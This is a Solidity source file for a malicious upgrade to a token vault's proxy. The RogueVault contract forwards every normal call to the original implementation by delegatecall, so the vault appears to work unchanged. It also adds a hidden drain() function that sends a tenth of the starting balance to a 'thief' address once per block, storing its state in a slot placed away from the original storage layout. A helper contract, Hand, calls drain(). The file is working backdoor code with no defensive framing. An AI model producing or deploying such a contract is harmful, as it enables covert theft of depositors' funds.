// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
}

/// @notice The thief's code for the vault's proxy: everything goes on as before, but `drain` is new.
contract RogueVault {
    address private immutable ORIGINAL;
    address private immutable THIEF;
    IToken private immutable TOKEN;

    /// @dev Far from the original's storage layout.
    struct Loot {
        uint256 perBlock;
        uint256 lastBlock;
    }

    bytes32 private constant LOOT = keccak256("rogue vault loot");

    error OncePerBlock();

    constructor(address original, address thief, IToken token) {
        (ORIGINAL, THIEF, TOKEN) = (original, thief, token);
    }

    /// @notice Once per block: a tenth of what there was at the first time.
    function drain() external {
        Loot storage loot;
        bytes32 slot = LOOT;
        assembly {
            loot.slot := slot
        }
        uint256 balance = TOKEN.balanceOf(address(this));
        if (loot.perBlock == 0) loot.perBlock = balance / 10;
        require(block.number > loot.lastBlock, OncePerBlock());
        loot.lastBlock = block.number;
        TOKEN.transfer(THIEF, balance < loot.perBlock ? balance : loot.perBlock);
    }

    receive() external payable {}

    fallback() external payable {
        address original = ORIGINAL;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), original, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// @notice Calls what the vault's own interface does not have.
contract Hand {
    function reach(RogueVault vault) external {
        vault.drain();
    }
}
